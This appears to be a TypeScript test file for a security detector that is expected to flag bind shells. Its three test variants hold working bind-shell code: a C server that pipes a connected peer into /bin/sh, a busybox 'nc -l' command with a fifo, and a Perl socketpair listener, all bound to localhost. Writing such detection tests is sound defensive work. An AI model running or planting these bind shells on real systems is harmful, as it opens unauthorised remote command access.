import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { visitor } from "../peers.ts";
import type { Place, Traced } from "../traced_job.ts";
import type { Variant } from "../variant.ts";

let port = 0;
async function prepare() {
  const { port: at, close } = await visitor();
  port = at;
  return close;
}

async function prepareSource({ directory }: Place) {
  writeFileSync(join(directory, "server.c"), source);
  return await prepare();
}

const happened = ({ stdout, stderr }: Traced) => assert.match(stdout, /ran/, stderr);
const found = {
  ...{ signature: "JW-150", severity: "high", behaviour: "bind_shell" },
  message: /was connected to by 127\.0\.0\.1:\d+; whoever/,
} as const satisfies Partial<Variant["found"]>;

/** Serves one peer a shell, over pipes. */
const source = `
#include <arpa/inet.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

int main(int count, char **args)
{
	struct sockaddr_in at = { .sin_family = AF_INET, .sin_port = htons(atoi(args[1])) };
	int server = socket(AF_INET, SOCK_STREAM, 0), peer, to[2], from[2], size;
	char bytes[512];

	bind(server, (struct sockaddr *)&at, sizeof(at));
	listen(server, 1);
	peer = accept(server, NULL, NULL);
	if (peer < 0 || pipe(to) || pipe(from))
		return 1;
	if (fork() == 0) {
		dup2(to[0], 0);
		dup2(from[1], 1);
		dup2(from[1], 2);
		close(to[1]);
		execl("/bin/sh", "sh", NULL);
		return 1;
	}
	close(from[1]);
	while ((size = read(peer, bytes, sizeof(bytes))) > 0)
		write(to[1], bytes, size);
	close(to[1]);
	while ((size = read(from[0], bytes, sizeof(bytes))) > 0)
		write(peer, bytes, size);
	wait(NULL);
	return 0;
}
`;

export const variants: Variant[] = [
  {
    name: "a program in C accepts a peer and copies to a shell's pipes",
    prepare: prepareSource,
    command: () => [...["sh", "-c"], `gcc -w -o server server.c && ./server ${port}; cat proof`],
    happened,
    found: { ...found, program: "/dash" },
  },
  {
    name: "busybox accepts a peer, and a fifo leads back",
    prepare,
    command: () => [
      ...["sh", "-c"],
      `mkfifo f; busybox nc -l -p ${port} <f | sh >f 2>&1; cat proof`,
    ],
    happened,
    found: { ...found, program: "/dash" },
  },
  {
    name: "perl accepts a peer and gives the shell one end of a pair of sockets",
    prepare,
    command: () => [
      ...["sh", "-c"],
      `perl -e "$0"; cat proof`,
      `use IO::Socket::INET; use Socket; $SIG{PIPE} = "IGNORE";
my $server = IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => ${port}, Listen => 1) or die;
my $peer = $server->accept;
socketpair(my $mine, my $its, AF_UNIX, SOCK_STREAM, 0) or die;
if (!fork) {
  open STDIN, "<&", $its; open STDOUT, ">&", $its; open STDERR, ">&", $its;
  exec "/bin/sh";
}
close $its;
while (my $line = <$peer>) { syswrite $mine, $line; }
wait;`,
    ],
    happened,
    found: { ...found, program: "/dash" },
  },
];
